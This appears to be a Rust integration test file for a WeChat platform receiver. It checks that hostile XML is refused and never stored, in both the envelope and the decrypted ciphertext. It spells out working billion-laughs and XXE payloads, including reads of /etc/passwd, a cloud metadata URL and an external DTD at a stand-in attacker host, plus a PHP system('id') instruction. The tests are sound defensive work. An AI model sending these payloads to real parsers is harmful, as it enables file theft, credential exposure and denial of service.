//! Hostile XML through the real ticket receiver: billion laughs, XXE (SYSTEM, PUBLIC, parameter
//! entities, external DTDs), DOCTYPEs, processing instructions and huge attribute, element and
//! nesting counts, both in the envelope and inside the ciphertext (signed and encrypted with the
//! platform's own keys, as if the key had leaked). Each is refused with its exact HTTP answer and
//! nothing is stored.
//!
//! And the other way: the same words as a user's text (escaped, or in CDATA) are no markup. They
//! are stored (authorization event URL) or handed on (message URL) exactly as written.

use lambda_http::http::StatusCode;
use wxopen::config::MessageTarget;
use wxopen_tests::receiver::ReceiverPlatform;
use wxopen_tests::service::Service;
use wxopen_tests::*;

const DOCTYPE: &str = "XML with a DOCTYPE or entity declaration is refused (-40002 ParseXmlError)";
const PROCESSING_INSTRUCTION: &str =
    "XML with a processing instruction is refused (-40002 ParseXmlError)";
const TOO_LARGE: &str = "XML is nested or repeated beyond what WeChat sends (-40002 ParseXmlError)";
const UNKNOWN_ENTITY: &str = "XML references an unknown entity (-40002 ParseXmlError)";

type Platform = ReceiverPlatform;

/// The hostile cases' own checks, on the receiver's fixture.
trait Hostile {
    async fn refused_empty(&self, case: &str, push: &Push, reason: &str);
    fn envelope(&self, body: impl Fn(&str) -> String) -> Push;
    fn inner(&self, xml: &str) -> Push;
    fn ticket_with(&self, prolog: &str, value: &str) -> String;
}

impl Hostile for ReceiverPlatform {
    /// Sends a push, checks the exact answer and that the component still has nothing stored.
    async fn refused_empty(&self, case: &str, push: &Push, reason: &str) {
        let got = self.send(push).await;
        assert_eq!(
            got,
            (StatusCode::BAD_REQUEST, reason.to_owned()),
            "case {case}"
        );
        assert!(
            items_of(&self.aws, &self.appid).await.is_empty(),
            "case {case} stored something"
        );
    }

    /// A signed push of a ticket whose envelope body is replaced by `body(encrypt)`.
    fn envelope(&self, body: impl Fn(&str) -> String) -> Push {
        let now = wxopen::unix_now();
        let mut push = self
            .pusher
            .push(&ticket_xml(&self.appid, now, "ticket"), now);
        let encrypt = wxopen::Envelope::parse(&push.body).unwrap().encrypt;
        push.body = body(&encrypt);
        push
    }

    /// A push whose decrypted message is `xml`, properly encrypted and signed.
    fn inner(&self, xml: &str) -> Push {
        self.pusher.push(xml, wxopen::unix_now())
    }

    /// A ticket message with `prolog` before the root and `value` as the ticket's raw XML.
    fn ticket_with(&self, prolog: &str, value: &str) -> String {
        format!(
            "{prolog}<xml><AppId>{}</AppId><CreateTime>{}</CreateTime>\
             <InfoType>component_verify_ticket</InfoType>\
             <ComponentVerifyTicket>{value}</ComponentVerifyTicket></xml>",
            self.appid,
            wxopen::unix_now()
        )
    }
}

/// Nine levels of ten: a billion "lol"s if anything expanded them.
fn billion_laughs() -> String {
    let mut doctype = String::from("<!DOCTYPE xml [<!ENTITY lol0 \"lol\">");
    for level in 1..=9 {
        let refs = format!("&lol{};", level - 1).repeat(10);
        doctype.push_str(&format!("<!ENTITY lol{level} \"{refs}\">"));
    }
    doctype.push_str("]>");
    doctype
}

const XXE_SYSTEM: &str = "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>";
const XXE_PUBLIC: &str = "<!DOCTYPE xml [<!ENTITY xxe PUBLIC \"-//X//EN\" \"http://169.254.169.254/latest/meta-data/iam/\">]>";
const XXE_PARAMETER: &str =
    "<!DOCTYPE xml [<!ENTITY % dtd SYSTEM \"http://attacker.invalid/evil.dtd\"> %dtd; %send;]>";
const EXTERNAL_DTD: &str = "<!DOCTYPE xml SYSTEM \"http://attacker.invalid/wechat.dtd\">";

fn attributes(count: usize) -> String {
    (0..count).map(|i| format!(" a{i}=\"{i}\"")).collect()
}

#[tokio::test]
async fn hostile_envelopes_are_refused_before_anything_is_decrypted() {
    let p = Platform::new().await;
    let appid = p.appid.clone();
    let plain = move |prolog: &str, app: &str, encrypt: &str| {
        format!("{prolog}<xml><AppId>{app}</AppId><Encrypt><![CDATA[{encrypt}]]></Encrypt></xml>")
    };
    let cases: Vec<(&str, Push, &str)> = vec![
        (
            "billion laughs",
            p.envelope(|e| plain(&billion_laughs(), "&lol9;", e)),
            DOCTYPE,
        ),
        (
            "XXE SYSTEM",
            p.envelope(|e| plain(XXE_SYSTEM, "&xxe;", e)),
            DOCTYPE,
        ),
        (
            "XXE PUBLIC",
            p.envelope(|e| plain(XXE_PUBLIC, "&xxe;", e)),
            DOCTYPE,
        ),
        (
            "parameter entities",
            p.envelope(|e| plain(XXE_PARAMETER, &appid, e)),
            DOCTYPE,
        ),
        (
            "external DTD",
            p.envelope(|e| plain(EXTERNAL_DTD, &appid, e)),
            DOCTYPE,
        ),
        (
            "lower-case doctype",
            p.envelope(|e| plain("<!doctype xml>", &appid, e)),
            DOCTYPE,
        ),
        (
            "DOCTYPE after the root",
            p.envelope(|e| format!("{}{XXE_SYSTEM}", plain("", &appid, e))),
            DOCTYPE,
        ),
        (
            "entity declaration without a DOCTYPE",
            p.envelope(|e| plain("<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", &appid, e)),
            DOCTYPE,
        ),
        (
            "DOCTYPE in a field",
            p.envelope(|e| plain("", &format!("<!DocType xml>{appid}"), e)),
            DOCTYPE,
        ),
        (
            "entity declaration in a field",
            p.envelope(|e| plain("", &format!("{appid}<!entity x \"y\">"), e)),
            DOCTYPE,
        ),
        (
            "XML declaration after the start",
            p.envelope(|e| format!("\n<?xml version=\"1.0\"?>{}", plain("", &appid, e))),
            PROCESSING_INSTRUCTION,
        ),
        (
            "undeclared entity",
            p.envelope(|e| plain("", "&xxe;", e)),
            UNKNOWN_ENTITY,
        ),
        (
            "processing instruction before the root",
            p.envelope(|e| {
                plain(
                    "<?xml-stylesheet type=\"text/xsl\" href=\"http://attacker.invalid/x.xsl\"?>",
                    &appid,
                    e,
                )
            }),
            PROCESSING_INSTRUCTION,
        ),
        (
            "processing instruction in a field",
            p.envelope(|e| plain("", &format!("<?php system('id'); ?>{appid}"), e)),
            PROCESSING_INSTRUCTION,
        ),
        (
            "4,000 attributes",
            p.envelope(|e| {
                format!(
                    "<xml{}><AppId>{appid}</AppId><Encrypt>{e}</Encrypt></xml>",
                    attributes(4000)
                )
            }),
            TOO_LARGE,
        ),
        (
            "10,000 elements",
            p.envelope(|e| {
                plain(
                    "",
                    &format!("{appid}</AppId>{}<AppId>", "<a/>".repeat(10_000)),
                    e,
                )
            }),
            TOO_LARGE,
        ),
        (
            "1,000 levels of nesting",
            p.envelope(|e| {
                format!(
                    "<xml><AppId>{appid}</AppId>{}<Encrypt>{e}</Encrypt>{}</xml>",
                    "<a>".repeat(1000),
                    "</a>".repeat(1000)
                )
            }),
            TOO_LARGE,
        ),
    ];
    for (case, push, reason) in &cases {
        assert!(
            push.body.len() < 64 * 1024,
            "case {case} is too big to reach the parser"
        );
        p.refused_empty(case, push, reason).await;
    }
    // The same component takes a clean push: the refusals were about the XML alone.
    let now = wxopen::unix_now();
    let clean = p
        .pusher
        .push(&ticket_xml(&p.appid, now, "ticket@@@clean"), now);
    assert_eq!(p.send(&clean).await, (StatusCode::OK, "success".to_owned()));
    assert_eq!(items_of(&p.aws, &p.appid).await.len(), 1);
}

#[tokio::test]
async fn hostile_xml_inside_the_ciphertext_is_refused_after_decryption() {
    let p = Platform::new().await;
    let cases: Vec<(&str, Push, &str)> = vec![
        (
            "billion laughs",
            p.inner(&p.ticket_with(&billion_laughs(), "&lol9;")),
            DOCTYPE,
        ),
        (
            "XXE SYSTEM",
            p.inner(&p.ticket_with(XXE_SYSTEM, "&xxe;")),
            DOCTYPE,
        ),
        (
            "XXE PUBLIC",
            p.inner(&p.ticket_with(XXE_PUBLIC, "&xxe;")),
            DOCTYPE,
        ),
        (
            "parameter entities",
            p.inner(&p.ticket_with(XXE_PARAMETER, "t")),
            DOCTYPE,
        ),
        (
            "external DTD",
            p.inner(&p.ticket_with(EXTERNAL_DTD, "t")),
            DOCTYPE,
        ),
        (
            "DOCTYPE in a field",
            p.inner(&p.ticket_with("", &format!("t{XXE_SYSTEM}"))),
            DOCTYPE,
        ),
        (
            "entity declaration in a field",
            p.inner(&p.ticket_with("", "<!ENTITY x SYSTEM \"file:///etc/passwd\">t")),
            DOCTYPE,
        ),
        (
            "XML declaration inside the root",
            p.inner(&p.ticket_with("", "<?xml version=\"1.0\"?>t")),
            PROCESSING_INSTRUCTION,
        ),
        (
            "undeclared entity",
            p.inner(&p.ticket_with("", "&xxe;")),
            UNKNOWN_ENTITY,
        ),
        (
            "processing instruction",
            p.inner(&p.ticket_with("<?xml-stylesheet href=\"http://attacker.invalid/\"?>", "t")),
            PROCESSING_INSTRUCTION,
        ),
        (
            "3,000 attributes",
            p.inner(&p.ticket_with("", &format!("<t{}/>", attributes(3000)))),
            TOO_LARGE,
        ),
        (
            "5,000 elements",
            p.inner(&p.ticket_with("", &"<a/>".repeat(5000))),
            TOO_LARGE,
        ),
        (
            "1,000 levels of nesting",
            p.inner(&p.ticket_with(
                "",
                &format!("{}t{}", "<a>".repeat(1000), "</a>".repeat(1000)),
            )),
            TOO_LARGE,
        ),
    ];
    for (case, push, reason) in &cases {
        assert!(
            push.body.len() < 64 * 1024,
            "case {case} is too big to reach the parser"
        );
        p.refused_empty(case, push, reason).await;
    }
    // Right at the bounds WeChat's shapes still pass: 16 attributes, 8 levels, 256 fields.
    let now = wxopen::unix_now();
    let at_bounds = format!(
        "<xml{}><AppId>{}</AppId><CreateTime>{now}</CreateTime>\
         <InfoType>notify_bounds</InfoType>{}<b><c><d><e><f><g><h>deep</h></g></f></e></d></c></b></xml>",
        attributes(16),
        p.appid,
        "<x>1</x>".repeat(256 - 4)
    );
    assert_eq!(
        p.send(&p.inner(&at_bounds)).await,
        (StatusCode::OK, "success".to_owned())
    );
    let items = items_of(&p.aws, &p.appid).await;
    assert_eq!(items.len(), 1);
    assert_eq!(items[0]["info_type"].as_s().unwrap(), "notify_bounds");
    assert_eq!(
        items[0]["fields"].as_m().unwrap()["b/c/d/e/f/g/h"]
            .as_s()
            .unwrap(),
        "deep"
    );
}

/// What users write about XML, as text: each must come out exactly as written.
const WORDS: [&str; 5] = [
    "see <!DOCTYPE html> in my text",
    "<!DOCTYPE xml [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>&xxe;",
    "<!entity lol \"lol\"> and &lol9;",
    "<?php system('id'); ?> <?xml version=\"1.0\"?>",
    "a ]]> b <![CDATA[ c",
];

/// `text` as XML character data: in CDATA (split where it holds `]]>`) or escaped.
fn spelled(text: &str, cdata: bool) -> String {
    if cdata {
        format!("<![CDATA[{}]]>", text.replace("]]>", "]]]]><![CDATA[>"))
    } else {
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    }
}

#[tokio::test]
async fn markup_words_in_a_pushs_text_are_stored_as_written() {
    let p = Platform::new().await;
    let now = wxopen::unix_now();
    let mut fields = String::new();
    for (i, word) in WORDS.iter().enumerate() {
        fields += &format!("<Cdata{i}>{}</Cdata{i}>", spelled(word, true));
        fields += &format!("<Escaped{i}>{}</Escaped{i}>", spelled(word, false));
    }
    let xml = format!(
        "<?xml version=\"1.0\"?><xml><AppId>{}</AppId><CreateTime>{now}</CreateTime>\
         <InfoType>notify_words</InfoType>{fields}</xml>",
        p.appid
    );
    assert_eq!(
        p.send(&p.inner(&xml)).await,
        (StatusCode::OK, "success".to_owned())
    );
    let items = items_of(&p.aws, &p.appid).await;
    assert_eq!(items.len(), 1);
    let stored = items[0]["fields"].as_m().unwrap();
    for (i, word) in WORDS.iter().enumerate() {
        assert_eq!(stored[&format!("Cdata{i}")].as_s().unwrap(), word);
        assert_eq!(stored[&format!("Escaped{i}")].as_s().unwrap(), word);
    }
}

#[tokio::test]
async fn markup_words_in_a_users_message_are_handed_on_as_written() {
    let client = wxopen_tests::sqs().await;
    let queue_url = wxopen_tests::create_queue(&client, false).await;
    let service = Service::with_message_target(MessageTarget::Queue(queue_url.clone())).await;
    let (appid, user_name) = crate::messages::authorized_account(&service).await;
    let url = crate::messages::message_url(&service, &appid);
    let calls_before = service.sandbox.calls();

    let mut sent = Vec::new();
    for (i, word) in WORDS.iter().enumerate() {
        for cdata in [true, false] {
            let xml = format!(
                "<xml><ToUserName><![CDATA[{user_name}]]></ToUserName>\
                 <FromUserName><![CDATA[o_words]]></FromUserName><CreateTime>{}</CreateTime>\
                 <MsgType><![CDATA[text]]></MsgType><Content>{}</Content><MsgId>{}</MsgId></xml>",
                wxopen::unix_now(),
                spelled(word, cdata),
                24_100_000_000 + 2 * i as u64 + u64::from(cdata)
            );
            let answer = service.sandbox.send_message(&url, &user_name, &xml).await;
            assert_eq!(answer.unwrap(), (200, "success".to_owned()), "{xml}");
            sent.push(*word);
        }
    }
    // The same words as markup in the message: refused, nothing handed on.
    let markup = format!(
        "<!DOCTYPE xml><xml><ToUserName>{user_name}</ToUserName><FromUserName>o</FromUserName>\
         <CreateTime>1</CreateTime><MsgType>text</MsgType><Content>x</Content></xml>"
    );
    let answer = service
        .sandbox
        .send_message(&url, &user_name, &markup)
        .await;
    assert_eq!(answer.unwrap(), (400, DOCTYPE.to_owned()));

    let handed = wxopen_tests::receive_all(&client, &queue_url).await;
    let mut contents: Vec<&str> = handed
        .iter()
        .map(|m| m["fields"]["Content"].as_str().unwrap())
        .collect();
    contents.sort_unstable();
    sent.sort_unstable();
    assert_eq!(contents, sent);
    assert_eq!(service.sandbox.calls(), calls_before, "no call to WeChat");
}
